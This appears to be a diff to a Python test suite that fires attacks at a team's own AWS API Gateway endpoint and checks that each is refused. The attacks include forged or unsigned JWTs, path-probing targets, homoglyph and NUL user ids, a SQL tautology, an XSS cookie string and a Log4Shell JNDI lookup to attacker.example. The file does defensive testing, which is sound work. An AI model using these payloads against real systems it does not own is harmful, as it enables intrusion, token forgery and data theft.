@@ -9,15 +9,13 @@ from pathlib import Path
 from urllib.parse import quote, unquote, urlsplit
 
 APIGATEWAY = "https://docs.aws.amazon.com/apigateway/latest/developerguide"
-COGNITO = "https://docs.aws.amazon.com/cognito/latest/developerguide"
 SOURCES = {
     "gateway responses": f"{APIGATEWAY}/supported-gateway-response-types.html",
     "401 from an authorizer": "https://repost.aws/knowledge-center/api-gateway-cognito-401-unauthorized",
-    "verifying tokens": f"{COGNITO}/amazon-cognito-user-pools-using-tokens-verifying-a-jwt.html",
     "important notes": f"{APIGATEWAY}/api-gateway-known-issues.html",
-    "quotas": f"{APIGATEWAY}/limits.html",
     "our handler": "../handlers/query.py",
 }
+UNDOCUMENTED = "not documented"
 VICTIM = "victim@example.com"
 TREASURE = "Treasure of the victim"
 """The name of the victim's one service."""
@@ -97,7 +95,9 @@ def complaints(attack: Attack, token: str | None, answer: Answer) -> Iterator[st
     sent = {part for part in (token, attack.user_id, attack.target.decode()) if part and len(part) > 2}
     if any(part in text for part in sent):
         yield "it repeats what was sent"
-    if attack.method != "HEAD" and json.loads(text).keys() != {"message", "request_id"}:
+    # Who refuses a line that is not HTTP, in front of the API, may do it without a word.
+    wordless = attack.method == "HEAD" or (attack.aws == UNDOCUMENTED and not text)
+    if not wordless and json.loads(text).keys() != {"message", "request_id"}:
         yield f"it is not a refusal of ours: {text}"
 
 
@@ -106,8 +106,10 @@ def _of(user_id: str) -> bytes:
     return f"/users/{quote(user_id, safe='')}/services".encode()
 
 
-def _refused_token(token: str, aws: str = "401", source: str = "401 from an authorizer") -> Attack:
-    return Attack(what=f"token: {token}", aws=aws, source=source, here=401, token=token)
+def _refused_token(token: str, aws: str = "401", difference: str = "") -> Attack:
+    return Attack(
+        what=f"token: {token}", aws=aws, source="401 from an authorizer", here=401, difference=difference, token=token
+    )
 
 
 def _nowhere(what: str, method: str = "GET", target: bytes = Attack.target) -> Attack:
@@ -147,16 +149,20 @@ ATTACKS = (
     _refused_token("none"),
     _refused_token("garbage"),
     _refused_token("truncated"),
-    _refused_token("without its signature", source="verifying tokens"),
-    _refused_token("with one bit flipped in the signature", source="verifying tokens"),
-    _refused_token("with other claims under its signature", source="verifying tokens"),
-    _refused_token("unsigned (alg=none)", source="verifying tokens"),
-    _refused_token("signed with the public key (alg=HS256)", source="verifying tokens"),
-    _refused_token("signed with a key of the attacker's (alg=RS256)", source="verifying tokens"),
+    _refused_token("without its signature"),
+    _refused_token("with one bit flipped in the signature"),
+    _refused_token("with other claims under its signature"),
+    _refused_token("unsigned (alg=none)"),
+    _refused_token("signed with the public key (alg=HS256)"),
+    _refused_token("signed with a key of the attacker's (alg=RS256)"),
     _refused_token("expired"),
     _refused_token("of another pool"),
     _refused_token("an id token"),
-    _refused_token("of another scope"),
+    _refused_token(
+        "of another scope",
+        aws="401 or 403",
+        difference="AWS names both for an authorizer that denies; it is refused either way.",
+    ),
     _nowhere("the root", target=b"/"),
     _nowhere("all users", target=b"/users"),
     _nowhere("a user, not the services", target=b"/users/victim"),
@@ -197,6 +203,23 @@ ATTACKS = (
     _asks("SQL", "' OR '1'='1' --"),
     _asks("HTML", "<script>alert(document.cookie)</script>"),
     _asks("a template", "${jndi:ldap://attacker.example/a}{{7*7}}"),
+    Attack(
+        what="user id: letters as they are, not encoded",
+        aws=UNDOCUMENTED,
+        source="important notes",
+        here=400,
+        difference="Only an answer to somebody else or of the inside would be wrong.",
+        target="/users/vict\u0456m/services".encode(),
+    ),
+    Attack(
+        what="user id: a NUL as it is, not encoded",
+        aws=UNDOCUMENTED,
+        source="important notes",
+        here=400,
+        difference="As before.",
+        target=b"/users/victim\0/services",
+    ),
+    _asks("12,000 characters", "x" * 12_000, here=400),
     Attack(what="user id: not UTF-8", aws="400", source="our handler", here=400, target=NOT_UTF8, reaches_handler=True),
     Attack(
         what="user id: blank",
